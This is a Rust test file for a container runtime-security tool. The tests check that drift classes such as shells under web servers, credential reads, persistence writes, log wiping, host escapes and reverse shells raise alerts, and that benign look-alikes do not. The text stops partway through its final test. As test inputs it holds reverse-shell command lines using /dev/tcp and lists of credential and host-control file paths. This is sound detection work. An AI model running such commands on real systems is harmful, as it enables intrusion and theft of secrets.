//! Each class of drift fires, and its quiet twin does not.

mod support;

use plimsoll_baseline::{Approval, Novelty, Verdict, alert, attack, priority};
use plimsoll_model::event::{DupTarget, MountCall, NamespaceCall};
use plimsoll_model::*;
use support::*;

/// What a ready web server's baseline says to an act.
fn verdict(who: &Who, kind: EventKind) -> Verdict {
    let (b, c) = ready();
    judge(&b, &c, &see(&c, 500, who, kind))
}

fn class_of(who: &Who, kind: EventKind) -> (DriftClass, Risk) {
    let v = verdict(who, kind);
    let d = v
        .drifts
        .first()
        .unwrap_or_else(|| panic!("no drift: {v:?}"));
    assert!(!d.reason.is_empty());
    (d.class, d.risk)
}

fn dropped(exe: &str, origin: Origin) -> EventKind {
    let mut e = exec(exe);
    e.origin = origin;
    EventKind::Exec(e)
}

#[test]
fn what_a_ready_baseline_knows_is_quiet() {
    for kind in [
        accept(80, "10.0.0.9:6000"),
        read("/srv/www/index.html"),
        connect("10.0.0.5:6379"),
    ] {
        assert!(verdict(&nginx(), kind).is_known());
    }
}

#[test]
fn shell_under_nginx_is_drift_and_its_quiet_twin_is_not() {
    let shell = who(&["/bin/sh", NGINX]);
    assert_eq!(
        class_of(&shell, run("/bin/sh")),
        (DriftClass::ShellUnderServer, Risk::High)
    );
    // twin: nginx reloads by starting itself
    let twin = who(&[NGINX, NGINX]);
    assert_ne!(class_of(&twin, run(NGINX)).0, DriftClass::ShellUnderServer);
    // twin: a shell under a shell
    let twin = who(&["/bin/sh", "/bin/sh"]);
    assert_ne!(
        class_of(&twin, run("/bin/sh")).0,
        DriftClass::ShellUnderServer
    );
}

#[test]
fn shell_under_a_program_that_listens_is_drift_whatever_its_name() {
    let c = container("x", 0);
    let mut b = fresh(&c);
    let app = who(&["/opt/app/bin/thing"]);
    observe(&mut b, &c, &see(&c, 1, &app, listen(9000)));
    let shell = who(&["/bin/bash", "/opt/app/bin/thing"]);
    let v = observe(&mut b, &c, &see(&c, 2, &shell, run("/bin/bash")));
    assert_eq!(v.drifts[0].class, DriftClass::ShellUnderServer);
    let twin = who(&["/bin/bash", "/opt/app/bin/other"]);
    assert!(
        observe(&mut b, &c, &see(&c, 2, &twin, run("/bin/bash")))
            .drifts
            .is_empty()
    );
}

#[test]
fn npm_may_start_a_shell_and_a_node_server_may_not() {
    let c = container("x", 0);
    let mut b = fresh(&c);
    let start = |b: &mut _, script: &'static str| {
        let mut shell = who(&["/bin/sh", "/usr/bin/node"]);
        shell.lineage[1].1 = script;
        observe(b, &c, &see(&c, 1, &shell, run("/bin/sh")))
    };
    assert!(
        start(&mut b, "/usr/lib/node_modules/npm/bin/npm-cli.js")
            .drifts
            .is_empty()
    );
    assert!(!start(&mut b, "/srv/app/index.js").drifts.is_empty());
}

#[test]
fn a_program_dropped_after_creation_is_high_and_one_of_the_image_is_not() {
    let run_it = who(&["/tmp/x", "/bin/sh"]);
    let (class, risk) = class_of(&run_it, dropped("/tmp/x", Origin::Upper));
    assert_eq!((class, risk), (DriftClass::ProgramFromWritable, Risk::High));
    assert_eq!(
        class_of(&run_it, dropped("/mnt/v/x", Origin::Volume)).1,
        Risk::Medium
    );
    assert_eq!(
        class_of(&run_it, dropped("/tmp/xmrig", Origin::Upper)).1,
        Risk::Critical
    );
    let (class, risk) = class_of(&who(&["/usr/bin/id", "/bin/sh"]), run("/usr/bin/id"));
    assert_eq!((class, risk), (DriftClass::NewProgram, Risk::Medium));
}

#[test]
fn a_dropped_program_is_told_by_its_path_also_under_another_name() {
    let mut e = exec("/tmp/busybox");
    (e.origin, e.argv) = (Origin::Upper, vec!["/tmp/busybox".into(), "uname".into()]);
    let v = verdict(&who(&["/tmp/busybox", "/bin/sh"]), EventKind::Exec(e));
    let reason = &v.drifts[0].reason;
    assert!(
        reason.starts_with("/tmp/busybox (as uname) is not part"),
        "{reason}"
    );
}

#[test]
fn an_interpreter_that_is_known_is_not_called_never_run() {
    let c = container("x", 0);
    let mut b = fresh(&c);
    let start = |script: &str| {
        let mut e = exec("/usr/bin/python3.11");
        e.script = script.into();
        EventKind::Exec(e)
    };
    let python = who(&["/usr/bin/python3.11", "/bin/sh"]);
    observe(&mut b, &c, &see(&c, 1, &python, start("/srv/app.py")));
    let approval = Approval {
        who: "kim".into(),
        why: "reviewed".into(),
        at: at(3),
    };
    b.lock(approval).expect("it can be locked");
    let reason = |script| {
        judge(&b, &c, &see(&c, 9, &python, start(script))).drifts[0]
            .reason
            .clone()
    };
    assert!(
        reason("").contains("started with none of them"),
        "{}",
        reason("")
    );
    assert!(reason("/tmp/x.py").contains("never ran /tmp/x.py before"));
}

#[test]
fn a_server_that_puts_a_script_or_runs_one_is_told_and_a_picture_or_its_cache_is_not() {
    let put = |path: &str| class_of(&nginx(), rename("/tmp/phpX1", path));
    let web_shell = (DriftClass::ProgramFileWrite, Risk::Medium);
    assert_eq!(put("/srv/www/up/shell.php"), web_shell);
    assert_eq!(put("/srv/www/up/photo.jpg").1, Risk::Low);
    assert_eq!(
        put("/srv/www/storage/framework/views/ab12.php").1,
        Risk::Low
    );
    let run = |origin| {
        class_of(
            &nginx(),
            file(FileOp::Read, "/srv/www/up/shell.php", origin),
        )
        .1
    };
    assert_eq!(run(Origin::Upper), Risk::Medium);
    assert_eq!(run(Origin::Image), Risk::Low);
    // a person who deploys by hand is no server
    let hand = who(&["/usr/bin/cp", "/bin/sh"]);
    assert_eq!(
        class_of(&hand, rename("/tmp/a", "/srv/www/a.php")).1,
        Risk::Low
    );
}

#[test]
fn who_steps_down_takes_up_what_it_had_and_nobody_else_gains() {
    let rights = |old_caps, new_caps| EventKind::Credentials {
        old_uid: 999,
        new_uid: 999,
        old_caps,
        new_caps,
    };
    let (b, c) = ready();
    let grade = |exe: &'static str, started_with: u64| {
        let mut o = see(&c, 500, &who(&[exe, "/bin/sh"]), rights(0, 0xa804_25fb));
        let mut program = exec(exe);
        program.caps = started_with;
        let mut line = o.lineage.to_vec();
        line[0].facts = Some(ExecFacts::of(&program));
        o.lineage = line.into();
        judge(&b, &c, &o).drifts[0].risk
    };
    assert_eq!(grade("/usr/bin/setpriv", 0xa804_25fb), Risk::Low);
    assert_eq!(grade("/usr/bin/setpriv", 0x400), Risk::High);
    assert_eq!(grade("/srv/app/server", 0xa804_25fb), Risk::High);
}

#[test]
fn perl_looks_up_users_for_what_is_installed_and_for_nothing_else() {
    let risk = |script: &'static str| {
        let perl = who(&["/usr/bin/perl", "/bin/sh"]).script(script);
        class_of(&perl, read("/etc/shadow")).1
    };
    assert_eq!(risk("/usr/bin/psql"), Risk::Low);
    assert_eq!(risk(""), Risk::High);
    assert_eq!(risk("/tmp/psql"), Risk::High);
}

#[test]
fn a_program_without_a_file_is_critical() {
    let run_it = who(&["/memfd:x", "/usr/bin/python3"]);
    let fileless = (DriftClass::FilelessProgram, Risk::Critical);
    assert_eq!(
        class_of(&run_it, dropped("/memfd:x (deleted)", Origin::Memfd)),
        fileless
    );
    assert_eq!(
        class_of(&run_it, dropped("/proc/self/fd/3", Origin::Unknown)),
        fileless
    );
    let mut e = exec("/usr/bin/ls");
    e.deleted = true;
    assert_eq!(class_of(&run_it, EventKind::Exec(e)), fileless);
}

#[test]
fn a_dropped_namesake_is_called_a_masquerade() {
    let v = verdict(
        &who(&["/tmp/nginx", "/bin/sh"]),
        dropped("/tmp/nginx", Origin::Upper),
    );
    assert_eq!(v.drifts[0].techniques, ["T1036.005"]);
    let v = verdict(
        &who(&["/tmp/zz", "/bin/sh"]),
        dropped("/tmp/zz", Origin::Upper),
    );
    assert!(v.drifts[0].techniques.is_empty());
}

#[test]
fn somebody_who_enters_is_noticed() {
    let mut e = exec("/bin/bash");
    e.tty = 34816;
    let visitor = who(&["/bin/bash", "/usr/bin/runc"]).entry(Entry::ExecSession);
    let (class, risk) = class_of(&visitor, EventKind::Exec(e));
    assert_eq!((class, risk), (DriftClass::InteractiveEntry, Risk::Medium));
    // a runtime that copied itself into memory is the runtime all the same
    let visitor =
        who(&["/bin/bash", "/memfd:runc_cloned:/proc/self/exe"]).entry(Entry::ExecSession);
    assert_eq!(
        class_of(&visitor, run("/bin/bash")).0,
        DriftClass::InteractiveEntry
    );
}

#[test]
fn a_health_check_is_learned_and_a_visitor_with_a_terminal_is_not() {
    let c = container("x", 0);
    let mut b = fresh(&c);
    let probe = who(&["/usr/bin/curl", "/usr/bin/runc"]).entry(Entry::ExecSession);
    assert!(
        observe(&mut b, &c, &see(&c, 1, &probe, run("/usr/bin/curl")))
            .drifts
            .is_empty()
    );
    let mut e = exec("/bin/bash");
    e.tty = 1;
    let visitor = who(&["/bin/bash", "/usr/bin/runc"]).entry(Entry::ExecSession);
    let v = observe(&mut b, &c, &see(&c, 1, &visitor, EventKind::Exec(e)));
    assert!(v.drifts[0].quarantined);
    // and what that visitor does is not learned either
    let does = who(&["/usr/bin/id", "/bin/bash", "/usr/bin/runc"]).entry(Entry::ExecSession);
    let v = observe(&mut b, &c, &see(&c, 2, &does, run("/usr/bin/id")));
    assert!(
        v.learned.is_empty() && v.drifts.iter().all(|d| d.quarantined),
        "{v:?}"
    );
}

#[test]
fn the_runtime_may_set_up_a_container_and_a_program_that_takes_its_name_may_not() {
    let unshare = || EventKind::Namespace {
        call: NamespaceCall::Unshare,
        flags: 0x1000_0000,
    };
    let c = container("x", 0);
    let mut b = fresh(&c);
    let runtime = who(&["/usr/bin/runc"]);
    assert!(
        observe(&mut b, &c, &see(&c, 0, &runtime, unshare()))
            .drifts
            .is_empty()
    );
    let impostor = who(&["/tmp/runc", "/bin/sh"]);
    assert!(
        !observe(&mut b, &c, &see(&c, 5, &impostor, unshare()))
            .drifts
            .is_empty()
    );
    // neither may a dropped program started from outside under that name
    let dropped = who(&["/tmp/runc", "/usr/bin/runc"]).entry(Entry::ExecSession);
    let v = observe(
        &mut b,
        &c,
        &see(&c, 5, &dropped, self::dropped("/tmp/runc", Origin::Upper)),
    );
    assert_eq!(v.drifts[0].class, DriftClass::ProgramFromWritable);
}

#[test]
fn credentials_read_by_cat_alert_and_by_sshd_at_work_do_not() {
    let cat = who(&["/usr/bin/cat", "/bin/sh"]);
    for path in [
        "/etc/shadow",
        "/root/.ssh/id_rsa",
        "/home/bob/.aws/credentials",
        "/etc/../etc//shadow",
        "/srv/.pgpass",
    ] {
        let (class, risk) = class_of(&cat, read(path));
        assert_eq!(
            (class, risk),
            (DriftClass::SensitiveFileRead, Risk::High),
            "{path}"
        );
    }
    let c = container("x", 0);
    let mut b = fresh(&c);
    let sshd = who(&["/usr/sbin/sshd"]);
    assert!(
        observe(&mut b, &c, &see(&c, 1, &sshd, read("/etc/shadow")))
            .drifts
            .is_empty()
    );
    // the name alone is no excuse
    let fake = who(&["/tmp/sshd"]);
    assert!(
        !observe(&mut b, &c, &see(&c, 1, &fake, read("/etc/shadow")))
            .drifts
            .is_empty()
    );
    // public account data is ordinary
    assert_eq!(
        class_of(&cat, read("/etc/passwd")),
        (DriftClass::NewFileRead, Risk::Low)
    );
}

#[test]
fn a_service_reads_its_own_secret_quietly_and_a_tool_does_not() {
    let c = container("x", 0);
    let mut b = fresh(&c);
    let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let app = who(&["/opt/app/bin/app"]);
    assert!(
        observe(&mut b, &c, &see(&c, 1, &app, read(token)))
            .drifts
            .is_empty()
    );
    let cat = who(&["/usr/bin/cat", "/bin/sh"]);
    let v = observe(&mut b, &c, &see(&c, 1, &cat, read(token)));
    assert_eq!(only_drift(&v).techniques, ["T1528"]);
}

#[test]
fn a_web_server_reads_its_own_key_quietly_while_learning() {
    let c = container("x", 0);
    let mut b = fresh(&c);
    let key = "/etc/ssl/private/server.key";
    assert!(
        observe(&mut b, &c, &see(&c, 1, &nginx(), read(key)))
            .drifts
            .is_empty()
    );
    let cat = who(&["/usr/bin/cat", "/bin/sh"]);
    assert!(
        !observe(&mut b, &c, &see(&c, 1, &cat, read(key)))
            .drifts
            .is_empty()
    );
}

#[test]
fn writes_to_where_programs_are_started_from_alert() {
    let sh = who(&["/bin/sh", NGINX]);
    for (path, risk) in [
        ("/etc/ld.so.preload", Risk::Critical),
        ("/etc/cron.d/x", Risk::High),
        ("/etc/passwd", Risk::High),
        ("/home/bob/.bashrc", Risk::High),
        ("/root/.ssh/authorized_keys", Risk::High),
        ("/etc/systemd/system/x.service", Risk::High),
    ] {
        assert_eq!(
            class_of(&sh, write(path)),
            (DriftClass::PersistenceWrite, risk),
            "{path}"
        );
        // by rename as well
        assert_eq!(
            class_of(&sh, rename("/tmp/x", path)).0,
            DriftClass::PersistenceWrite,
            "{path}"
        );
    }
    assert_eq!(
        class_of(&sh, write("/usr/bin/ls")),
        (DriftClass::ProgramFileWrite, Risk::High)
    );
    assert_eq!(
        class_of(&sh, write("/srv/data/x")),
        (DriftClass::NewFileWrite, Risk::Low)
    );
    assert_eq!(
        class_of(&sh, read("/etc/cron.d/x")),
        (DriftClass::NewFileRead, Risk::Low)
    );
}

#[test]
fn traces_removed_by_a_shell_alert_and_by_logrotate_do_not() {
    let sh = who(&["/bin/bash", NGINX]);
    let removed = (DriftClass::TracesRemoved, Risk::High);
    let unlink = |p: &str| file(FileOp::Unlink, p, Origin::Upper);
    assert_eq!(class_of(&sh, unlink("/var/log/auth.log")), removed);
    assert_eq!(class_of(&sh, unlink("/root/.bash_history")), removed);
    let hide = EventKind::File(plimsoll_model::event::FileEvent {
        raw: None,
        mode: None,
        op: FileOp::Symlink,
        path: "/dev/null".into(),
        target: "/root/.bash_history".into(),
        origin: Origin::Upper,
        flags: 0,
        result: 0,
    });
    assert_eq!(class_of(&sh, hide), removed);
    // what a shell does to its own history at the end of a session, and what only looks like it
    let own = (DriftClass::TracesRemoved, Risk::Low);
    let mv = who(&["/bin/mv", "/bin/bash"]);
    let history = "/root/.bash_history";
    let made = "/root/.bash_history-117.tmp";
    assert_eq!(class_of(&sh, rename(made, history)), own);
    assert_eq!(class_of(&mv, rename(made, history)), removed);
    assert_eq!(class_of(&sh, rename("/tmp/empty", history)), removed);
    let cut = |flags: u32| match file(FileOp::Write, history, Origin::Upper) {
        EventKind::File(f) => EventKind::File(plimsoll_model::event::FileEvent { flags, ..f }),
        other => other,
    };
    assert_eq!(class_of(&sh, cut(0o1001)), own);
    assert_eq!(class_of(&sh, cut(0o1101)), removed, "> .bash_history");
    let rotate = who(&["/usr/sbin/logrotate"]);
    assert_eq!(
        class_of(&rotate, unlink("/var/log/nginx/access.log.1")).1,
        Risk::Low
    );
    let gzip = who(&["/usr/bin/gzip", "/bin/sh"]);
    assert_eq!(class_of(&gzip, unlink("/var/log/app.log")).1, Risk::Low);
    assert_eq!(class_of(&gzip, unlink("/root/.bash_history")), removed);
    assert_eq!(
        class_of(&sh, unlink("/srv/data/x")).0,
        DriftClass::FileRemoved
    );
}

#[test]
fn host_files_seen_through_a_mount_alert_and_own_data_there_does_not() {
    let sh = who(&["/bin/sh", NGINX]);
    let volume = |op, path: &str| file(op, path, Origin::Volume);
    let (class, risk) = class_of(&sh, volume(FileOp::Write, "/host/etc/cron.d/x"));
    assert_eq!((class, risk), (DriftClass::HostControlFile, Risk::Critical));
    assert_eq!(
        class_of(&sh, volume(FileOp::Read, "/host/etc/shadow")).0,
        DriftClass::HostControlFile
    );
    assert_eq!(
        class_of(&sh, volume(FileOp::Write, "/data/x")).0,
        DriftClass::NewFileWrite
    );
    let core = file(
        FileOp::Write,
        "/proc/sys/kernel/core_pattern",
        Origin::Pseudo,
    );
    assert_eq!(
        class_of(&sh, core),
        (DriftClass::HostControlFile, Risk::Critical)
    );
    let look = file(
        FileOp::Read,
        "/proc/sys/kernel/core_pattern",
        Origin::Pseudo,
    );
    assert_eq!(class_of(&sh, look).1, Risk::Low);
    let disk = file(FileOp::Read, "/dev/sda1", Origin::Pseudo);
    assert_eq!(class_of(&sh, disk).1, Risk::Critical);
    let agent = file(
        FileOp::Write,
        "/sys/fs/cgroup/rdma/release_agent",
        Origin::Pseudo,
    );
    assert_eq!(class_of(&sh, agent).1, Risk::Critical);
}

#[test]
fn set_uid_alerts_and_the_sticky_run_directory_of_a_database_does_not() {
    let chmod = |path: &str, mode: u32| {
        let mut kind = file(FileOp::Chmod, path, Origin::Upper);
        if let EventKind::File(f) = &mut kind {
            f.flags = mode;
        }
        kind
    };
    let sh = who(&["/usr/bin/chmod", "/bin/bash"]);
    assert_eq!(
        class_of(&sh, chmod("/tmp/x", 0o4755)),
        (DriftClass::MadeExecutable, Risk::High)
    );
    assert_eq!(
        class_of(&sh, chmod("/tmp/x", 0o755)),
        (DriftClass::MadeExecutable, Risk::Medium)
    );
    assert_eq!(
        class_of(&sh, chmod("/var/run/postgresql", 0o3775)).1,
        Risk::Low
    );
}

#[test]
fn network_classes_fire_and_their_twins_do_not() {
    let metadata = class_of(&nginx(), connect("169.254.169.254:80"));
    assert_eq!(metadata, (DriftClass::MetadataService, Risk::High));
    assert_eq!(
        class_of(&nginx(), connect("10.0.0.77:5432")),
        (DriftClass::NewOutboundPeer, Risk::Medium)
    );
    assert_eq!(class_of(&nginx(), connect("127.0.0.1:5432")).1, Risk::Low);
    let bash = who(&["/bin/bash", NGINX]);
    assert_eq!(class_of(&bash, connect("10.0.0.77:4444")).1, Risk::High);
    assert_eq!(
        class_of(&nginx(), listen(4444)),
        (DriftClass::NewListeningPort, Risk::Medium)
    );
    assert!(verdict(&nginx(), listen(80)).is_known());
    let docker = EventKind::Connect(plimsoll_model::event::Connection {
        proto: Proto::Unix,
        peer: SockAddr::Unix("/var/run/docker.sock".into()),
        local: None,
        result: 0,
    });
    assert_eq!(
        class_of(&nginx(), docker),
        (DriftClass::RuntimeSocket, Risk::High)
    );
    let packet = EventKind::Socket {
        family: 17,
        kind: 3,
        protocol: 768,
    };
    assert_eq!(
        class_of(&nginx(), packet),
        (DriftClass::UnusualSocket, Risk::High)
    );
    let netlink = EventKind::Socket {
        family: 16,
        kind: 3,
        protocol: 0,
    };
    assert_eq!(class_of(&nginx(), netlink).1, Risk::Low);
}

#[test]
fn a_reverse_shell_is_critical_and_a_local_socket_is_not() {
    let dup = |target| EventKind::Dup {
        stream: 0,
        target,
        peer: None,
    };
    let sh = who(&["/bin/sh", NGINX]);
    assert_eq!(
        class_of(&sh, dup(DupTarget::Inet)),
        (DriftClass::StreamsOnSocket, Risk::Critical)
    );
    assert_eq!(class_of(&sh, dup(DupTarget::Unix)).1, Risk::Low);
    let devtcp = who(&["/bin/bash", "/bin/sh"]);
    let v = verdict(
        &devtcp,
        run_args(
            "/bin/bash",
            &["-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        ),
    );
    assert!(
        v.drifts
            .iter()
            .any(|d| d.class == DriftClass::NewArguments && d.risk == Risk::High)
    );
}

#[test]
fn steps_towards_the_host_and_to_more_rights_alert() {
    let sh = who(&["/bin/sh", NGINX]);
    let creds = |old_uid, new_uid, caps| EventKind::Credentials {
        old_uid,
        new_uid,
        old_caps: 0,
        new_caps: caps,
    };
    let setns = EventKind::Namespace {
        call: NamespaceCall::Setns,
        flags: 0,
    };
    let mount = EventKind::Mount {
        call: MountCall::Mount,
        source: "/dev/sda1".into(),
        target: "/mnt".into(),
        fstype: "ext4".into(),
        flags: 0,
    };
    let attach = |path: &str| EventKind::CgroupAttach {
        to: 1,
        path: path.into(),
        moved: ProcessKey::default(),
    };
    for (kind, class, risk) in [
        (setns, DriftClass::NamespaceChange, Risk::High),
        (mount, DriftClass::MountChange, Risk::High),
        (
            EventKind::Ptrace {
                request: 16,
                target: 1,
            },
            DriftClass::ProcessTampering,
            Risk::High,
        ),
        (
            EventKind::Module {
                name: "rootkit".into(),
            },
            DriftClass::KernelModule,
            Risk::Critical,
        ),
        (
            EventKind::Bpf { command: 5 },
            DriftClass::BpfUse,
            Risk::High,
        ),
        (creds(33, 0, 0), DriftClass::UidChange, Risk::High),
        (creds(0, 33, 0), DriftClass::UidChange, Risk::Low),
        (
            creds(33, 33, 1 << 21),
            DriftClass::NewCapability,
            Risk::High,
        ),
        (
            creds(33, 33, 1 << 10),
            DriftClass::NewCapability,
            Risk::Medium,
        ),
        (
            EventKind::Memfd { name: "x".into() },
            DriftClass::MemoryFile,
            Risk::Medium,
        ),
        (attach("/"), DriftClass::CgroupEscape, Risk::Critical),
        (
            attach("/system.slice/docker-abc.scope/sub"),
            DriftClass::RareCall,
            Risk::Low,
        ),
    ] {
        assert_eq!(class_of(&sh, kind.clone()), (class, risk), "{kind:?}");
    }
}

#[test]
fn arguments_that_changed_under_the_kernels_eyes_alert_even_when_known() {
    let (b, c) = ready();
    let mut obs = see(&c, 500, &nginx(), read("/srv/www/index.html"));
    assert!(judge(&b, &c, &obs).is_known());
    obs.event.tampered = true;
    assert_eq!(
        only_drift(&judge(&b, &c, &obs)).class,
        DriftClass::ArgumentRace
    );
}

#[test]
fn a_drift_is_frozen_with_the_baseline_and_what_it_expected() {
    let (b, c) = ready();
    let v = judge(
        &b,
        &c,
        &see(&c, 500, &nginx(), read("/srv/www/secret.html")),
    );
    let d = only_drift(&v);
    assert_eq!(d.baseline, Some(b.reference()));
    assert_eq!(d.baseline_state, "ready");
    assert_eq!(d.coverage_permille, b.coverage().permille());
    assert!(!d.nearest.is_empty() && d.nearest.len() <= 3);
    assert_eq!(d.nearest[0].behaviour.object, "/srv/www/index.html".into());
    assert_eq!(
        d.nearest[0].difference,
        "same program, other file (/srv/www/index.html)"
    );
}

#[test]
fn without_a_baseline_an_attack_alerts_and_ordinary_work_does_not() {
    let c = container("x", 0);
    let judge = |who: &Who, kind| {
        let obs = see(&c, 0, who, kind);
        let coded = plimsoll_baseline::behaviours(&obs, &c, &plimsoll_baseline::NoNames);
        plimsoll_baseline::judge(&obs, &c, None, &coded)
    };
    assert!(
        judge(&nginx(), read("/etc/nginx/nginx.conf"))
            .drifts
            .is_empty()
    );
    let v = judge(&who(&["/usr/bin/cat", "/bin/sh"]), read("/etc/shadow"));
    assert_eq!(only_drift(&v).baseline, None);
    assert!(only_drift(&v).quarantined);
}

#[test]
fn low_drift_while_learning_is_silent_and_high_drift_never_is() {
    let mut drift = only_drift(&verdict(&nginx(), read("/srv/x"))).clone();
    assert_eq!(
        priority(&drift, Novelty::First),
        None,
        "a file is drift, and no alert"
    );
    drift.class = DriftClass::NewDnsName;
    assert_eq!(priority(&drift, Novelty::First), Some(Priority::Notice));
    assert_eq!(
        priority(&drift, Novelty::Elsewhere),
        Some(Priority::Informational)
    );
    drift.baseline_state = "learning".into();
    assert_eq!(priority(&drift, Novelty::First), None);
    drift.risk = Risk::High;
    drift.coverage_permille = 100;
    assert_eq!(priority(&drift, Novelty::Elsewhere), Some(Priority::Error));
    drift.risk = Risk::Critical;
    assert_eq!(
        priority(&drift, Novelty::Elsewhere),
        Some(Priority::Critical)
    );
    drift.risk = Risk::Medium;
    assert_eq!(priority(&drift, Novelty::First), Some(Priority::Notice));
    drift.coverage_permille = 990;
    assert_eq!(priority(&drift, Novelty::First), Some(Priority::Warning));
}

#[test]
fn an_alert_says_it_in_one_sentence_and_in_falcos_fields() {
    let (b, c) = ready();
    let mut shell = who(&["/bin/sh", NGINX]);
    shell.uid = 33;
    let mut obs = see(&c, 500, &shell, run_args("/bin/sh", &["-c", "id\x1b[31m"]));
    obs.event.process.comm = "sh".into();
    let v = judge(&b, &c, &obs);
    let d = &v.drifts[0];
    let id = AlertId::parse("A-1").unwrap();
    let a = alert(d, &obs, &c, id, Novelty::First).unwrap();
    assert_eq!(a.rule, "Shell started by a server");
    assert_eq!(a.priority, Priority::Error);
    let output = String::from_utf8(a.output.as_bytes().to_vec()).unwrap();
    assert!(
        output.starts_with(
            "Shell started by a server in web2 (shop/web:1.4): sh was started by nginx"
        ),
        "{output}"
    );
    assert!(!output.contains('\x1b') && !output.contains('\n'));
    let field = |n: &str| {
        a.fields
            .iter()
            .find(|(k, _)| k == n)
            .map(|(_, v)| v.to_str_lossy().into_owned())
    };
    assert_eq!(field("proc.name").as_deref(), Some("sh"));
    assert_eq!(field("proc.pname").as_deref(), Some("nginx"));
    assert_eq!(field("evt.type").as_deref(), Some("execve"));
    assert_eq!(
        field("container.image.repository").as_deref(),
        Some("shop/web")
    );
    assert_eq!(field("container.image.tag").as_deref(), Some("1.4"));
    assert!(field("proc.cmdline").unwrap().starts_with("sh -c id"));
    assert!(a.fields.windows(2).all(|w| w[0].0 < w[1].0));
    assert!(a.tags.contains(&"T1190".to_owned()));
}

#[test]
fn every_technique_that_is_emitted_belongs_to_the_matrix_for_containers() {
    assert!(attack::CONTAINER_TECHNIQUES.is_sorted());
    let source = include_str!("../src/risk.rs");
    let mut found = 0;
    for part in source.split("technique").skip(1) {
        for word in part
            .split('"')
            .filter(|w| w.starts_with('T') && w[1..].starts_with(|c: char| c.is_ascii_digit()))
        {
            found += 1;
            assert!(attack::technique_name(word).is_some(), "{word}");
        }
    }
    assert!(found > 20, "only {found} techniques found in the source");
}

#[test]
fn one_busybox_is_many_programs() {
    let c = container("x", 0);
    let mut b = fresh(&c);
    let call = |applet: &str| {
        let mut e = exec("/bin/busybox");
        e.argv = vec![applet.into()];
        EventKind::Exec(e)
    };
    let under_nginx = who(&["/bin/busybox", NGINX]);
    let v = observe(&mut b, &c, &see(&c, 1, &under_nginx, call("date")));
    assert!(v.drifts.is_empty());
    // knowing one of them makes no other known
    let v = judge(&b, &c, &see(&c, 2, &under_nginx, call("id")));
    assert!(!v.is_known());
    // and called as a shell it is one
    let v = judge(&b, &c, &see(&c, 2, &under_nginx, call("sh")));
    assert_eq!(v.drifts[0].class, DriftClass::ShellUnderServer);
    let v = judge(&b, &c, &see(&c, 2, &under_nginx, call("-ash")));
    assert_eq!(v.drifts[0].class, DriftClass::ShellUnderServer);
}

#[test]
fn a_log_that_was_not_there_before_is_not_emptied_by_being_made() {
    const WRITE_CREATE_TRUNCATE: u32 = 0o1101;
    let sh = who(&["/bin/sh", NGINX]);
    let open = |op| match file(op, "/var/log/auth.log", Origin::Upper) {
        EventKind::File(mut f) => {
            f.flags = WRITE_CREATE_TRUNCATE;
            EventKind::File(f)
        }
        other => other,
    };
    assert_eq!(
        class_of(&sh, open(FileOp::Write)).0,
        DriftClass::TracesRemoved
    );
    assert_ne!(
        class_of(&sh, open(FileOp::Create)).0,
        DriftClass::TracesRemoved
    );
}

#[test]
fn a_health_check_of_the_container_by_its_own_shell_is_none_of_a_reverse_shell() {
    let sh = who(&["/bin/bash", "/bin/sh"]);
    let dup = |peer: &str| {
        let peer: std::net::SocketAddr = peer.parse().expect("an address");
        EventKind::Dup {
            stream: 0,
            target: DupTarget::Inet,
            peer: Some(SockAddr::Inet(peer.ip(), peer.port())),
        }
    };
    let streams = DriftClass::StreamsOnSocket;
    assert_eq!(
        class_of(&sh, dup("127.0.0.1:9000")),
        (streams, Risk::Medium)
    );
    assert_eq!(
        class_of(&sh, dup("192.0.2.1:9000")),
        (streams, Risk::Critical)
    );
    // nobody checks health through an interpreter's standard input
    let python = who(&["/usr/bin/python3.11", "/bin/sh"]);
    assert_eq!(
        class_of(&python, dup("127.0.0.1:9000")),
        (streams, Risk::Critical)
    );
    let dials = |command: &str| {
        let v = verdict(&sh, run_args("/bin/bash", &["-c", command]));
        let high =
            |d: &plimsoll_model::Drift| d.class == DriftClass::NewArguments && d.risk == Risk::High;
        v.drifts.iter().any(high)
    };
    assert!(!dials("exec 3<>/dev/tcp/127.0.0.1/9000; cat <&3"));
    assert!(!dials("exec 3<>/dev/tcp/localhost/9000; cat <&3"));
    assert!(dials(
        "</dev/tcp/127.0.0.1/1; sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"
    ));
    assert!(dials("sh -i >& /dev/tcp/127.0.0.1.example.com/4444 0>&1"));
}

#[test]
fn a_directory_of_the_hosts_mounted_under_its_own_name_is_the_hosts() {
    let mut c = container("x", 0);
    c.mounts = vec!["/host/etc".into(), "/etc/passwd".into(), "/data".into()];
    let b = fresh(&c);
    let sh = who(&["/bin/cat", "/bin/sh"]);
    let class = |path: &str| {
        let seen = see(&c, 500, &sh, file(FileOp::Read, path, Origin::Volume));
        judge(&b, &c, &seen).drifts.first().map(|d| d.class)
    };
    assert_eq!(class("/host/etc/shadow"), Some(DriftClass::HostControlFile));
    assert_ne!(class("/etc/passwd"), Some(DriftClass::HostControlFile));
    assert_ne!(class("/data/x"), Some(DriftClass::HostControlFile));
}

#[test]
fn a_daily_act_that_touches_what_attackers_touch_stays_below_an_error() {
    let c = container("x", 0);
    let b = fresh(&c);
    let risk = |who: &Who, kind| {
        let v = judge(&b, &c, &see(&c, 500, who, kind));
        v.drifts.iter().map(|d| d.risk).max().unwrap_or(Risk::Low)
    };
    let ps = who(&["/usr/bin/ps", "/bin/sh"]);
    assert_eq!(risk(&ps, read("/proc/1/environ")), Risk::Low);
    let cat = who(&["/usr/bin/cat", "/bin/sh"]);
    assert_eq!(risk(&cat, read("/proc/1/environ")), Risk::Medium);
    let find = who(&["/usr/bin/find", "/bin/sh"]);
    let list = |path| file(FileOp::List, path, Origin::Image);
    assert_eq!(risk(&find, list("/root/.ssh")), Risk::Medium);
    assert_eq!(risk(&find, list("/etc/letsencrypt/archive")), Risk::Low);
    assert_eq!(risk(&find, read("/root/.ssh/id_rsa")), Risk::High);
    let openssl = who(&["/usr/bin/openssl", "/bin/sh"]);
    let renewed = "/etc/letsencrypt/archive/x/privkey1.pem";
    // learned, and worth a look once the image is known
    assert_eq!(risk(&openssl, write(renewed)), Risk::Low);
    let later = class_of(&openssl, write(renewed));
    assert_eq!(later, (DriftClass::PersistenceWrite, Risk::Medium));
    assert_eq!(
        risk(&openssl, write("/root/.ssh/authorized_keys")),
        Risk::High
    );
    let start = who(&["/bin/bash"]);
    assert_eq!(risk(&start, read("/run/secrets/password")), Risk::Low);
